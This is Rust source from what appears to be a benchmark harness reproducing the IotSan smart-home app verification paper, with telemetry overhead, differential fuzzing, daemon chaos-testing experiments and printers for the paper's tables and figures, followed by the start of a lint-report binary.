            run.report.cache_hits,
            run.report.cache_misses,
        );
        rows.push(
            JsonRow::with_capacity(256)
                .str("phase", phase)
                .fixed("seconds", run.elapsed.as_secs_f64(), 6)
                .num_u("groups", run.report.groups.len() as u64)
                .num_u("cache_hits", run.report.cache_hits as u64)
                .num_u("cache_misses", run.report.cache_misses as u64)
                .num_u("backing_hits", backing as u64)
                .num_u("violated_properties", run.report.violated_properties().len() as u64)
                .flag("truncated", run.truncated())
                .fixed("speedup_vs_cold", vs_cold, 3)
                .finish(),
        );
    }
    json.push_experiment("daemon", "market8+failures", events, &rows);
    println!("(recovery: {recovered}; warm verdicts byte-identical and served from disk)");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Minimum fraction of the recording-disabled throughput the
/// recording-enabled run must retain: the telemetry subsystem's "<5%
/// overhead" budget, enforced by CI's bench-smoke job.
const TELEMETRY_OVERHEAD_FLOOR: f64 = 0.95;

/// The telemetry overhead guard: the same sequential scaling workload
/// verified with metric recording switched off (the runtime kill-switch)
/// and on, interleaved best-of-3 inside one process so machine noise and
/// thermal drift hit both arms equally.  Asserts the instrumented run keeps
/// at least [`TELEMETRY_OVERHEAD_FLOOR`] of the uninstrumented throughput
/// and that recording changes no verification result, then emits the final
/// registry snapshot so the BENCH artifact records which counters moved.
fn telemetry_experiment(json: &mut BenchJson) {
    heading("Telemetry: recording overhead A/B (metrics off vs on, one process)");
    let (apps, config) = iotsan_bench::scaling_workload();
    let events = iotsan_bench::experiment_events(2, 3);
    let budget = iotsan_bench::experiment_budget(30, 120);

    // Warm-up run: fault in code paths and allocator state before timing.
    let warmup = iotsan_bench::run_search(&apps, &config, events, 1, true, budget);

    // Interleaved best-of-3 per arm: alternating off/on inside each round
    // keeps slow drift from systematically favouring either arm.
    let mut best: [Option<TimedRun>; 2] = [None, None];
    for _round in 0..3 {
        for (arm, recording) in [(0usize, false), (1usize, true)] {
            iotsan_telemetry::metrics::set_enabled(recording);
            let run = iotsan_bench::run_search(&apps, &config, events, 1, true, budget);
            iotsan_telemetry::metrics::set_enabled(true);
            let faster = match &best[arm] {
                None => true,
                Some(b) => run.report.stats.states_per_sec > b.report.stats.states_per_sec,
            };
            if faster {
                best[arm] = Some(run);
            }
        }
    }
    let [disabled, enabled] = best;
    let (disabled, enabled) =
        (disabled.expect("disabled arm ran"), enabled.expect("enabled arm ran"));

    // Recording is observation only: both arms (and the warm-up) must agree
    // on every verification result.
    for (label, run) in [("disabled", &disabled), ("enabled", &enabled)] {
        assert_eq!(
            run.report.violated_properties(),
            warmup.report.violated_properties(),
            "telemetry {label} arm changed the violated-property set"
        );
        assert_eq!(
            run.report.stats.states_stored, warmup.report.stats.states_stored,
            "telemetry {label} arm changed the explored state count"
        );
    }

    let ratio =
        enabled.report.stats.states_per_sec / disabled.report.stats.states_per_sec.max(1e-9);
    println!(
        "{:<22} {:>14} {:>10} {:>12} {:>12}",
        "Recording", "Time", "States", "States/sec", "Violations"
    );
    for (label, run) in [("off (kill-switch)", &disabled), ("on (default)", &enabled)] {
        println!(
            "{label:<22} {:>14} {:>10} {:>12.0} {:>12}",
            format_runtime(run),
            run.report.stats.states_stored,
            run.report.stats.states_per_sec,
            run.report.violated_properties().len()
        );
    }
    println!("enabled/disabled throughput ratio: {ratio:.3} (floor {TELEMETRY_OVERHEAD_FLOOR})");
    assert!(
        ratio >= TELEMETRY_OVERHEAD_FLOOR,
        "telemetry recording costs more than its overhead budget: \
         enabled run at {ratio:.3}x of the disabled run (floor {TELEMETRY_OVERHEAD_FLOOR})"
    );

    // The wiring check: a workload this size must have moved the checker
    // counters through the registry's global flush path.
    let snap = iotsan_telemetry::snapshot();
    assert!(
        snap.counter("iotsan_checker_searches_total") > 0
            && snap.counter("iotsan_checker_states_total") > 0,
        "the checker flushed no telemetry despite recording being enabled"
    );

    let overhead_row = |phase: &str, run: &TimedRun, ratio: f64| {
        JsonRow::with_capacity(256)
            .str("phase", phase)
            .fixed("seconds", run.elapsed.as_secs_f64(), 6)
            .num_u("states", run.report.stats.states_stored as u64)
            .num_u("transitions", run.report.stats.transitions as u64)
            .fixed("states_per_sec", run.report.stats.states_per_sec, 1)
            .flag("truncated", run.truncated)
            .fixed("throughput_ratio", ratio, 3)
            .finish()
    };
    json.push_experiment(
        "telemetry_overhead",
        "market8+failures",
        events,
        &[overhead_row("disabled", &disabled, 1.0), overhead_row("enabled", &enabled, ratio)],
    );
    json.push_experiment("telemetry_snapshot", "registry", events, &[snap.render_json()]);
}

/// The scenario-factory differential fuzzer: `size` generated households
/// starting at `seed_start`, each verified sequential / parallel / sliced /
/// warm-cache with all engine pairs required to agree (plus a Promela LTL
/// spot-check on small instances).  Emits one `scenario_fuzz` summary row.
/// On any divergence: shrinks the household to a minimal reproduction under
/// the *same* divergence phase, writes it to `scenario_repro.json` and exits
/// non-zero so CI fails loudly and uploads the artifact.
fn scenarios_experiment(json: &mut BenchJson, seed_start: u64, size: usize) {
    use iotsan_scenarios::{check_household, shrink, Household, HouseholdReport, SizeProfile};
    use std::time::Instant;

    heading(&format!(
        "Scenario factory: differential fuzzing over {size} households (seeds {seed_start}..{})",
        seed_start + size as u64
    ));
    let profile = SizeProfile::default();
    let mut totals = HouseholdReport::default();
    let mut households = 0usize;
    let mut apps = 0usize;
    let mut truncated = 0usize;
    let mut promela_checked = 0usize;
    let mut violating = 0usize;
    let start = Instant::now();

    for seed in seed_start..seed_start + size as u64 {
        let household = Household::generate(seed, &profile);
        match check_household(&household) {
            Ok(report) => {
                households += 1;
                apps += household.sources.len();
                totals.groups += report.groups;
                totals.states += report.states;
                totals.transitions += report.transitions;
                truncated += report.truncated as usize;
                promela_checked += report.promela_checked as usize;
                violating += usize::from(!report.violated.is_empty());
            }
            Err(divergence) => {
                eprintln!("DIVERGENCE: {divergence}");
                let phase = divergence.phase;
                let minimal = shrink(
                    &household,
                    |h| matches!(check_household(h), Err(d) if d.phase == phase),
                );
                let path = "scenario_repro.json";
                std::fs::write(path, minimal.to_json() + "\n")
                    .unwrap_or_else(|e| panic!("failed to write {path}: {e}"));
                eprintln!(
                    "shrunk reproduction ({} apps, {} devices) written to {path}",
                    minimal.sources.len(),
                    minimal.config.devices.len()
                );
                std::process::exit(1);
            }
        }
    }

    let seconds = start.elapsed().as_secs_f64();
    let states_per_sec = totals.states as f64 / seconds.max(1e-9);
    println!(
        "{:<12} {:>8} {:>8} {:>10} {:>12} {:>10} {:>10}",
        "Households", "Apps", "Groups", "States", "Transitions", "Violating", "Truncated"
    );
    println!(
        "{households:<12} {apps:>8} {:>8} {:>10} {:>12} {violating:>10} {truncated:>10}",
        totals.groups, totals.states, totals.transitions
    );
    println!(
        "all four engines agreed on every household ({promela_checked} Promela spot-checks); \
         {seconds:.2}s, {states_per_sec:.0} states/sec"
    );
    json.push_experiment(
        "scenario_fuzz",
        "generated-households",
        0,
        &[JsonRow::with_capacity(256)
            .num_u("households", households as u64)
            .num_u("seed_start", seed_start)
            .num_u("divergences", 0)
            .num_u("apps", apps as u64)
            .num_u("groups", totals.groups as u64)
            .num_u("states", totals.states as u64)
            .num_u("transitions", totals.transitions as u64)
            .num_u("violating_households", violating as u64)
            .num_u("truncated_households", truncated as u64)
            .num_u("promela_checked", promela_checked as u64)
            .fixed("seconds", seconds, 6)
            .fixed("states_per_sec", states_per_sec, 1)
            .finish()],
    );
}

/// The timing-free digest of one verified group, used to detect a wrong
/// verdict: the apps and how many properties they violate are deterministic
/// for this workload, the timing statistics are not.
type ChaosReference = BTreeMap<u64, (Vec<String>, usize)>;

/// What one surviving chaos schedule contributes to the sweep summary.
#[derive(Default)]
struct ChaosScheduleStats {
    degraded: bool,
    lost_persists: usize,
    quarantined: usize,
}

fn chaos_retry() -> iotsan_daemon::RetryPolicy {
    // Tight backoff: the sweep cares about ordering, not wall-clock realism.
    iotsan_daemon::RetryPolicy { max_attempts: 2, base_delay_ms: 1 }
}

fn chaos_config(
    store_path: &std::path::Path,
    plan: Option<&iotsan_scenarios::ChaosPlan>,
) -> iotsan_daemon::DaemonConfig {
    use iotsan_daemon::{DaemonConfig, Fault, FaultKind, FaultPlan};
    use iotsan_scenarios::ChaosFaultKind;
    // The one-line mapping from the scenario crate's plain plan vocabulary
    // onto the daemon's fault seam (the crates deliberately do not depend
    // on each other in this direction).
    let fault_plan = plan.map(|p| FaultPlan {
        faults: p
            .faults
            .iter()
            .map(|f| Fault {
                at: f.at,
                kind: match f.kind {
                    ChaosFaultKind::ShortWrite => FaultKind::ShortWrite,
                    ChaosFaultKind::NoSpace => FaultKind::NoSpace,
                    ChaosFaultKind::FsyncFail => FaultKind::FsyncFail,
                    ChaosFaultKind::RenameFail => FaultKind::RenameFail,
                },
            })
            .collect(),
    });
    DaemonConfig {
        store_path: store_path.to_path_buf(),
        store_options: iotsan_daemon::StoreOptions::default(),
        workers: 1,
        queue_capacity: 16,
        retry: chaos_retry(),
        fault_injection: fault_plan.is_some(),
        fault_plan,
    }
}

/// The fixed chaos workload: two distinct market jobs, a duplicate of the
/// first (exercising the shared in-flight/cache path), and — when the plan
/// says so — a panicking job plus its duplicate (exercising supervision,
/// the shared attempt budget and the quarantine fail-fast).
fn chaos_jobs(plan: &iotsan_scenarios::ChaosPlan) -> Vec<iotsan_daemon::JobSpec> {
    use iotsan_daemon::{BundleSpec, JobSpec};
    let job = |id: &str, n: usize, inject_panic: bool| JobSpec {
        id: id.into(),
        bundle: BundleSpec::Market(n),
        events: 2,
        workers: 1,
        failures: false,
        timeout_ms: None,
        inject_panic,
    };
    // The panic jobs go first: the injected panic fires on a cache miss,
    // so they must reach their groups before a healthy job verifies them.
    // The healthy duplicate of the same bundle then proves a quarantined
    // class does not poison its fingerprints for later jobs.
    let mut jobs = Vec::new();
    if plan.panic_job {
        jobs.push(job("chaos-panic", 2, true));
        jobs.push(job("chaos-panic-dup", 2, true));
    }
    jobs.extend([job("chaos-a", 2, false), job("chaos-b", 3, false), job("chaos-a-dup", 2, false)]);
    jobs
}

/// Runs the fault-free workload once and digests every group verdict — the
/// ground truth all fault-injected runs are compared against.
fn chaos_reference(dir: &std::path::Path) -> ChaosReference {
    use iotsan_daemon::{Daemon, JobStatus};
    let store_path = dir.join("reference").join("verdicts.log");
    let mut daemon = Daemon::start(chaos_config(&store_path, None)).expect("reference daemon");
    let plan = iotsan_scenarios::ChaosPlan { seed: 0, faults: Vec::new(), panic_job: false };
    let outcomes = daemon.run_batch(chaos_jobs(&plan));
    let mut reference = ChaosReference::new();
    for outcome in &outcomes {
        assert!(matches!(outcome.status, JobStatus::Ok), "reference run must be clean");
        for group in &outcome.report.as_ref().expect("reference report").groups {
            reference
                .insert(group.fingerprint.0, (group.apps.clone(), group.report.violations.len()));
        }
    }
    daemon.shutdown().expect("reference shutdown");
    reference
}

/// Drives one chaos schedule through cold run → restart → warm run and
/// checks the three invariants.  `Err` carries a human-readable violation.
fn run_chaos_schedule(
    plan: &iotsan_scenarios::ChaosPlan,
    reference: &ChaosReference,
    dir: &std::path::Path,
    run_id: usize,
) -> Result<ChaosScheduleStats, String> {
    use iotsan_daemon::{Daemon, JobStatus, VerdictStore};

    let run_dir = dir.join(format!("run-{run_id}"));
    let _ = std::fs::remove_dir_all(&run_dir);
    let store_path = run_dir.join("verdicts.log");
    let mut stats = ChaosScheduleStats::default();

    // Cold run under the injected faults.
    let mut daemon = Daemon::start(chaos_config(&store_path, Some(plan)))
        .map_err(|e| format!("cold daemon failed to start: {e}"))?;
    let jobs = chaos_jobs(plan);
    let outcomes = daemon.run_batch(jobs.clone());
    // Invariant 3: every submitted job reaches a definite outcome (the
    // batch returning at all also proves no worker died or hung).
    if outcomes.len() != jobs.len() {
        return Err(format!("{} jobs submitted, {} outcomes returned", jobs.len(), outcomes.len()));
    }
    let mut acked = 0usize;
    for outcome in &outcomes {
        let spec = jobs.iter().find(|j| j.id == outcome.id).expect("outcome matches a job");
        match &outcome.status {
            JobStatus::Ok => {
                let report = outcome
                    .report
                    .as_ref()
                    .ok_or_else(|| format!("job {} is Ok without a report", outcome.id))?;
                // Invariant 2 (cold): every served verdict matches the
                // fault-free reference.
                for group in &report.groups {
                    match reference.get(&group.fingerprint.0) {
                        Some((apps, violations))
                            if *apps == group.apps
                                && *violations == group.report.violations.len() => {}
                        Some(_) => {
                            return Err(format!(
                                "job {} served a wrong verdict for {:?}",
                                outcome.id, group.apps
                            ))
                        }
                        None => {
                            return Err(format!(
                                "job {} served a verdict for an unknown group {:?}",
                                outcome.id, group.apps
                            ))
                        }
                    }
                }
                // Verdicts acknowledged as durable: fresh verifications
                // whose append the store accepted.
                acked += report.cache_misses - report.persist_failures;
                stats.lost_persists += report.persist_failures;
                stats.degraded |= outcome.degraded;
            }
            JobStatus::Failed { .. } if spec.inject_panic => {} // supervised as designed
            other => {
                return Err(format!("job {} ended {:?} instead of completing", outcome.id, other))
            }
        }
    }
    let summary = daemon.shutdown().map_err(|e| format!("cold daemon shutdown failed: {e}"))?;
    stats.quarantined = summary.quarantined;

    // Restart on whatever survived, with real I/O.  Invariant 1: the disk
    // holds exactly the acknowledged verdicts, and (invariant 2) each one
    // replays to the reference verdict.
    let store =
        VerdictStore::open(&store_path).map_err(|e| format!("post-fault reopen failed: {e}"))?;
    let disk: Vec<u64> = store.fingerprints().map(|f| f.0).collect();
    if disk.len() != acked {
        return Err(format!(
            "store lost or invented verdicts: {} acknowledged, {} on disk",
            acked,
            disk.len()
        ));
    }
    for fingerprint in &disk {
        let result = store.get(iotsan::Fingerprint(*fingerprint)).expect("listed fingerprint");
        match reference.get(fingerprint) {
            Some((apps, violations))
                if *apps == result.apps && *violations == result.report.violations.len() => {}
            _ => return Err(format!("recovered verdict for {:?} is wrong", result.apps)),
        }
    }
    drop(store);

    // Warm run, no faults: every durable verdict must be served from the
    // store (not re-verified), and every outcome must match the reference.
    let mut daemon = Daemon::start(chaos_config(&store_path, None))
        .map_err(|e| format!("warm daemon failed to start: {e}"))?;
    let no_panic = iotsan_scenarios::ChaosPlan { seed: 0, faults: Vec::new(), panic_job: false };
    let outcomes = daemon.run_batch(chaos_jobs(&no_panic));
    let mut backing_hits = 0usize;
    for outcome in &outcomes {
        if !matches!(outcome.status, JobStatus::Ok) {
            return Err(format!("warm job {} ended {:?}", outcome.id, outcome.status));
        }
        let report = outcome.report.as_ref().expect("warm report");
        for group in &report.groups {
            match reference.get(&group.fingerprint.0) {
                Some((apps, violations))
                    if *apps == group.apps && *violations == group.report.violations.len() => {}
                _ => {
                    return Err(format!(
                        "warm job {} served a wrong verdict for {:?}",
                        outcome.id, group.apps
                    ))
                }
            }
        }
        backing_hits += outcome.backing_hits;
    }
    if backing_hits != disk.len() {
        return Err(format!(
            "warm restart re-verified durable verdicts: {} on disk, {} served from it",
            disk.len(),
            backing_hits
        ));
    }
    daemon.shutdown().map_err(|e| format!("warm daemon shutdown failed: {e}"))?;

    let _ = std::fs::remove_dir_all(&run_dir);
    Ok(stats)
}

/// The seeded chaos sweep over the daemon's self-healing machinery.
fn chaos_experiment(json: &mut BenchJson, seed_start: u64, schedules: usize) {
    use iotsan_scenarios::ChaosPlan;
    use std::time::Instant;

    heading(&format!(
        "Chaos: {schedules} seeded fault schedules through the daemon (seeds {seed_start}..{})",
        seed_start + schedules as u64
    ));
    let dir = std::env::temp_dir().join(format!("iotsan-repro-chaos-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);

    // Injected panics are expected; their backtraces would swamp the output.
    let hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));

    let start = Instant::now();
    let reference = chaos_reference(&dir);
    let mut run_id = 0usize;
    let mut faults_scheduled = 0usize;
    let mut panic_schedules = 0usize;
    let mut degraded_runs = 0usize;
    let mut lost_persists = 0usize;
    let mut quarantined_jobs = 0usize;

    for seed in seed_start..seed_start + schedules as u64 {
        let plan = ChaosPlan::generate(seed);
        faults_scheduled += plan.faults.len();
        panic_schedules += usize::from(plan.panic_job);
        run_id += 1;
        match run_chaos_schedule(&plan, &reference, &dir, run_id) {
            Ok(stats) => {
                degraded_runs += usize::from(stats.degraded);
                lost_persists += stats.lost_persists;
                quarantined_jobs += stats.quarantined;
            }
            Err(violation) => {
                std::panic::set_hook(hook);
                eprintln!("CHAOS VIOLATION at seed {seed}: {violation}");
                let shrink_id = std::cell::Cell::new(run_id);
                let minimal = plan.shrink(|p| {
                    shrink_id.set(shrink_id.get() + 1);
                    run_chaos_schedule(p, &reference, &dir, shrink_id.get()).is_err()
                });
                let path = "chaos_repro.json";
                std::fs::write(path, minimal.to_json())
                    .unwrap_or_else(|e| panic!("failed to write {path}: {e}"));
                eprintln!(
                    "shrunk reproduction ({} faults, panic_job={}) written to {path}",
                    minimal.faults.len(),
                    minimal.panic_job
                );
                std::process::exit(1);
            }
        }
    }
    std::panic::set_hook(hook);
    let _ = std::fs::remove_dir_all(&dir);

    let seconds = start.elapsed().as_secs_f64();
    println!(
        "{:<12} {:>8} {:>10} {:>10} {:>14} {:>12}",
        "Schedules", "Faults", "Panics", "Degraded", "LostPersists", "Quarantined"
    );
    println!(
        "{schedules:<12} {faults_scheduled:>8} {panic_schedules:>10} {degraded_runs:>10} \
         {lost_persists:>14} {quarantined_jobs:>12}"
    );
    println!(
        "all {schedules} schedules upheld the invariants (no lost acknowledged verdict, \
         no wrong verdict, every job definite); {seconds:.2}s"
    );
    json.push_experiment(
        "chaos",
        "daemon-fault-schedules",
        2,
        &[JsonRow::with_capacity(256)
            .num_u("schedules", schedules as u64)
            .num_u("seed_start", seed_start)
            .num_u("violations", 0)
            .num_u("faults_scheduled", faults_scheduled as u64)
            .num_u("panic_schedules", panic_schedules as u64)
            .num_u("degraded_runs", degraded_runs as u64)
            .num_u("lost_persists", lost_persists as u64)
            .num_u("quarantined_jobs", quarantined_jobs as u64)
            .fixed("seconds", seconds, 6)
            .finish()],
    );
}

fn heading(title: &str) {
    println!("\n==================================================================");
    println!("{title}");
    println!("==================================================================");
}

/// Table 1: feature comparison of IotSan and related work.
fn table1() {
    heading("Table 1: Comparison of IotSan and related work");
    print!("{}", render_table1());
}

/// Table 2 / Table 3 / Figure 4: the dependency-graph example.
fn table2_and_3_and_fig4() {
    heading("Table 2 / Table 3 / Figure 4: dependency graph and related sets");
    let apps = translate_group(&samples::figure4_group());
    let (graph, sets) = analyze(&apps);
    print!("{}", render_summary(&graph, &sets));
    println!(
        "original handlers: {}, largest related set: {}, scale ratio: {:.1}x",
        graph.handler_count(),
        sets.largest_handler_count(&graph),
        sets.scale_ratio(&graph)
    );
}

/// Table 4: the safety-property catalog by category.
fn table4() {
    heading("Table 4: sample safe physical states (property catalog)");
    let set = PropertySet::all();
    let mut by_category: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for p in set.properties() {
        by_category.entry(p.category.clone()).or_default().push(p.name.clone());
    }
    println!("{:<38} {:>10}   sample property", "Category", "#props");
    for (category, names) in &by_category {
        println!("{category:<38} {:>10}   {}", names.len(), names[0]);
    }
    println!("total properties: {}", set.len());
}

/// Table 5: market apps with expert configurations (with and without
/// device/communication failures).
fn table5() {
    heading("Table 5: verification results with market apps (expert configurations)");
    let groups = market::six_groups();
    let mut totals: BTreeMap<String, usize> = BTreeMap::new();
    let mut totals_failures: BTreeMap<String, usize> = BTreeMap::new();
    let mut violated_props = std::collections::BTreeSet::new();
    let mut violated_props_failures = std::collections::BTreeSet::new();

    for (i, group) in groups.iter().enumerate() {
        let apps = translate_group(group);
        let config = expert_config(&apps);

        let pipeline = Pipeline::with_events(2);
        let result = pipeline.verify(&apps, &config);
        for (class, count) in result.violations_by_class(&pipeline.properties) {
            *totals.entry(class).or_insert(0) += count;
        }
        for (p, _) in result.violations() {
            violated_props.insert(p);
        }

        let pipeline_f = Pipeline::with_events(2).with_failures();
        let result_f = pipeline_f.verify(&apps, &config);
        for (class, count) in result_f.violations_by_class(&pipeline_f.properties) {
            *totals_failures.entry(class).or_insert(0) += count;
        }
        for (p, _) in result_f.violations() {
            violated_props_failures.insert(p);
        }
        println!(
            "  group {}: {} apps, {} violations (no failures), {} violations (with failures)",
            i + 1,
            group.len(),
            result.violation_count(),
            result_f.violation_count()
        );
    }

    println!("\nWithout device/communication failures:");
    println!("{:<28} {:>10}", "Violation type", "violations");
    for (class, count) in &totals {
        println!("{class:<28} {count:>10}");
    }
    println!("violated properties: {}", violated_props.len());

    println!("\nWith device/communication failures (additional coverage):");
    println!("{:<28} {:>10}", "Violation type", "violations");
    for (class, count) in &totals_failures {
        println!("{class:<28} {count:>10}");
    }
    println!("violated properties: {}", violated_props_failures.len());
    println!(
        "paper reports: 38 violations of 11 properties without failures; failures add 9 more violated properties"
    );
}

/// Table 6: market apps with volunteer (non-expert) configurations.
fn table6() {
    heading("Table 6: verification results with volunteer configurations");
    // 10 groups of ~5 related apps, 7 volunteer configurations each.
    let corpus = market::market_apps();
    let groups: Vec<Vec<market::MarketApp>> =
        corpus.chunks(5).take(10).map(|c| c.to_vec()).collect();
    let mut totals: BTreeMap<String, usize> = BTreeMap::new();
    let mut violated_props = std::collections::BTreeSet::new();
    let mut configurations = 0usize;

    for group in &groups {
        let apps = translate_group(group);
        for seed in 0..7u64 {
            configurations += 1;
            let config = volunteer_config(&apps, seed);
            let pipeline = Pipeline::with_events(2);
            let result = pipeline.verify(&apps, &config);
            for (class, count) in result.violations_by_class(&pipeline.properties) {
                *totals.entry(class).or_insert(0) += count;
            }
            for (p, _) in result.violations() {
                violated_props.insert(p);
            }
        }
    }
    println!(
        "{} groups x 7 volunteer configurations = {configurations} configurations",
        groups.len()
    );
    println!("{:<28} {:>10}", "Violation type", "violations");
    for (class, count) in &totals {
        println!("{class:<28} {count:>10}");
    }
    println!("violated properties: {}", violated_props.len());
    println!("paper reports: 97 violations of 10 properties (19 conflicting, 12 repeated, 66 unsafe states)");
}

/// Table 7a: dependency-graph scalability over the six market groups.
fn table7a() {
    heading("Table 7a: scalability with dependency graphs");
    println!("{:<8} {:>14} {:>10} {:>12}", "Group", "Original Size", "New Size", "Scale Ratio");
    let mut ratios = Vec::new();
    for (i, group) in market::six_groups().iter().enumerate() {
        let apps = translate_group(group);
        let (graph, sets) = analyze(&apps);
        let original = graph.handler_count();
        let reduced = sets.largest_handler_count(&graph);
        let ratio = sets.scale_ratio(&graph);
        ratios.push(ratio);
        println!("{:<8} {original:>14} {reduced:>10} {ratio:>12.1}", i + 1);
    }
    let mean = ratios.iter().sum::<f64>() / ratios.len() as f64;
    println!("{:<8} {:>14} {:>10} {mean:>12.1}", "mean", "", "");
    println!("paper reports a mean scale ratio of 3.4x");
}

/// Table 7b: concurrent vs sequential runtimes on the good group.
fn table7b() {
    heading("Table 7b: runtimes with concurrent and sequential design (good group)");
    let apps = translate_group(&samples::good_group());
    let config = expert_config(&apps);
    let budget = iotsan_bench::experiment_budget(10, 30);
    println!("{:<8} {:>22} {:>22}", "Events", "Concurrent", "Sequential");
    for events in 1..=iotsan_bench::experiment_events(5, 7) {
        let sequential = run_sequential(&apps, &config, events, budget);
        let concurrent = if events <= 4 {
            format_runtime(&run_concurrent(&apps, &config, events, budget))
        } else {
            "-".to_string()
        };
        println!("{events:<8} {concurrent:>22} {:>22}", format_runtime(&sequential));
    }
    println!("paper: concurrent exceeds 139 minutes at 3 events and never finishes at 4; sequential stays in seconds");
}

/// Table 8: sequential verification time vs number of events on the larger
/// 5-app group.
fn table8() {
    heading("Table 8: verification time vs number of events (5 related apps)");
    let apps = translate_group(&samples::table8_group());
    let config = expert_config(&apps);
    let budget = iotsan_bench::experiment_budget(20, 120);
    println!("{:<8} {:>16} {:>16} {:>16}", "Events", "Time", "States", "Transitions");
    for events in 1..=iotsan_bench::experiment_events(4, 6) {
        let run = run_sequential(&apps, &config, events, budget);
        println!(
            "{events:<8} {:>16} {:>16} {:>16}",
            format_runtime(&run),
            run.report.stats.states_stored,
            run.report.stats.transitions
        );
    }
    println!("paper: time grows from 6.61s at 6 events to 23.39h at 11 events (exponential in the event bound)");
}

/// Table 9: verification results with IFTTT rules.
fn table9() {
    heading("Table 9: verification results with IFTTT rules");
    let rules = ifttt::ifttt_rules();
    let apps = ifttt::translate_rules(&rules);
    let config = expert_config(&apps);
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);
    let mut rows: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for group in &result.groups {
        for property in group.violated_properties() {
            if let Some(p) = pipeline.properties.get(iotsan::properties::PropertyId(property)) {
                if p.class == PropertyClass::PhysicalState {
                    rows.entry(p.name.clone()).or_default().push(group.apps.join(", "));
                }
            }
        }
    }
    println!("{:<70} related rules", "Violated property");
    for (property, groups) in &rows {
        println!("{property:<70} {}", groups.join(" | "));
    }
    println!("total violations: {}", result.violation_count());
    println!("paper reports 7 violations of 4 unsafe physical states across the 10 rules");
}

/// §10.3: violation attribution of the 9 malicious apps plus benign controls.
fn attribution() {
    heading("Attribution (Section 10.3): malicious apps and market apps");
    let devices = standard_household();
    let pipeline = Pipeline::with_events(3);
    let thresholds = AttributionThresholds::default();

    // The malicious apps are evaluated installed alongside benign apps, as in
    // §10.1; these two provide mode changes and lock commands.
    let installed_sources = [market::AUTO_MODE_CHANGE, market::LOCK_IT_WHEN_I_LEAVE];
    let installed =
        iotsan::translate_sources(&installed_sources).expect("installed apps translate");

    println!("-- ContexIoT-style malicious apps --");
    let mut flagged = 0usize;
    let malicious = malicious::malicious_apps();
    for entry in &malicious {
        let apps = translate_group(std::slice::from_ref(&entry.app));
        let report = pipeline.attribute_new_app(&apps[0], &installed, &devices, &thresholds);
        if report.verdict.flags_app() {
            flagged += 1;
        }
        println!(
            "  {:<24} -> {} (standalone ratio {:.0}%)",
            entry.app.name,
            report.verdict,
            report.standalone_ratio * 100.0
        );
    }
    println!(
        "flagged {flagged}/{} malicious apps (paper: 9/9 at 100% violation ratio)",
        malicious.len()
    );

    println!("\n-- benign market apps (controls) --");
    for app in market::named_apps().iter().take(5) {
        let apps = translate_group(std::slice::from_ref(app));
        if apps[0].handlers.is_empty() {
            continue;
        }
        let report = pipeline.attribute_new_app(&apps[0], &installed, &devices, &thresholds);
        println!("  {:<24} -> {}", app.name, report.verdict);
    }
}

/// Figure 7: the Spin-style counterexample log for Auto Mode Change + Unlock Door.
fn fig7() {
    heading("Figure 7: example violation log (Auto Mode Change + Unlock Door)");
    let apps = translate_group(&samples::bad_group_mode_unlock());
    let config = expert_config(&apps);
    let run = run_sequential(&apps, &config, 2, iotsan_bench::experiment_budget(10, 30));
    let Some(found) = run.report.violations.iter().find(|v| {
        v.violation.description.contains("main door should be locked when no one is at home")
    }) else {
        println!("no violation found (unexpected)");
        return;
    };
    print!("{}", found.trace.render(&found.violation));
}

/// Figure 8a: the four-app interaction chain that unlocks the door at night.
fn fig8a() {
    heading("Figure 8a: violation due to bad app interactions (4 apps)");
    let apps = translate_group(&samples::figure8a_group());
    let config = expert_config(&apps);
    let pipeline = Pipeline::with_events(3);
    let result = pipeline.verify(&apps, &config);
    for group in &result.groups {
        for found in &group.report.violations {
            if found.violation.description.contains("sleeping")
                || found.violation.description.contains("main door")
            {
                println!("violated: {}", found.violation);
                println!("apps involved: {}", group.apps.join(", "));
                println!("counterexample ({} events):", found.trace.len());
                print!("{}", found.trace);
                return;
            }
        }
    }
    println!("violations found: {:?}", result.violations());
}

/// Figure 8b: a failed motion sensor prevents Make It So from arming the house.
fn fig8b() {
    heading("Figure 8b: violation due to a device failure (failed motion sensor)");
    let apps = translate_group(&samples::figure8b_group());
    let config = expert_config(&apps);
    let pipeline = Pipeline::with_events(3);
    let restricted = pipeline.restrict_config(&apps, &config);
    // Fail only the motion sensor, as in the paper's scenario.
    let motion = restricted
        .devices
        .iter()
        .position(|d| d.capability == "motionSensor")
        .map(|i| DeviceId(i as u32))
        .into_iter()
        .collect::<Vec<_>>();
    let mut options = ModelOptions::with_events(3);
    options.failure_policy = FailurePolicy::OnlyDevices(motion);
    let system = iotsan::system::InstalledSystem::new(apps.clone(), restricted);
    let model = iotsan::model::SequentialModel::new(system, PropertySet::all(), options);
    let report =
        iotsan::checker::Checker::new(iotsan::checker::SearchConfig::with_depth(3)).verify(&model);
    for found in &report.violations {
        println!("violated: {}", found.violation);
        println!("counterexample ({} events):", found.trace.len());
        print!("{}", found.trace);
        println!();
    }
    if report.violations.is_empty() {
        println!("no violations found (unexpected)");
    }
    println!(
        "paper: the failed motion sensor leaves the door unlocked and no notification is sent"
    );
}
