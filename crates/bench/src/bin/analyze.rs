//! `analyze` — runs the static analyzer's lint pass over the market corpus
//! and prints the diagnostic report.
//!
//! ```sh
//! cargo run --release -p iotsan-bench --bin analyze                  # report only
//! cargo run --release -p iotsan-bench --bin analyze -- --deny-dead-code
//! cargo run --release -p iotsan-bench --bin analyze -- \
//!     --deny-dead-code --baseline tests/golden/market_lints.txt
//! ```
//!
//! With `--deny-dead-code` the process exits non-zero when any dead-code
//! class finding (dead handlers, unreachable branches) is present.  With
//! `--baseline <path>` findings whose rendered line already appears in the
//! baseline file are accepted — CI uses this to gate *regressions* against
//! the committed golden report while tolerating the corpus's known findings.

use iotsan::analysis::{lint_system, render_report};
use iotsan::config::{expert_configure, standard_household};
use iotsan::translate_sources;
use iotsan_apps::market;

fn main() {
    let mut args: Vec<String> = std::env::args().skip(1).collect();
    let deny_dead_code = if let Some(pos) = args.iter().position(|a| a == "--deny-dead-code") {
        args.remove(pos);
        true
    } else {
        false
    };
    let baseline = if let Some(pos) = args.iter().position(|a| a == "--baseline") {
        if pos + 1 >= args.len() {
            eprintln!("error: --baseline requires a file path");
            std::process::exit(2);
        }
        let path = args.remove(pos + 1);
        args.remove(pos);
        Some(std::fs::read_to_string(&path).unwrap_or_else(|e| {
